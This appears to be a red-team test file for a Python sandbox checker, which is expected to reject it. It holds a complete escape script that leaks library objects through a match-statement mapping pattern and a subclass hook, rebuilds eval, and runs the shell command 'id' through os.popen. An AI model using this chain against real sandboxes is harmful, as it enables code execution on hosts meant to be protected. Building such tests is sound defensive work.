# expect: reject match
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family A: a dotted value pattern or mapping-pattern key whose root is no import (a star-imported name, a program subclass of a library class, cls, an alias, a for target) hands a library method, class or container to the subject's __eq__ or get (ours)
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class K(collections.UserList):
    def __init_subclass__(cls, **kw):
        try:
            match Grab(a=1):
                case {cls.copy: _}:
                    pass
        except Exception as e:
            box.append(e.args[0])

class Grab(dict):
    def get(self, k, d=None):
        raise LookupError(k)

box = []

class J(K):
    pass

T = box[0](P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
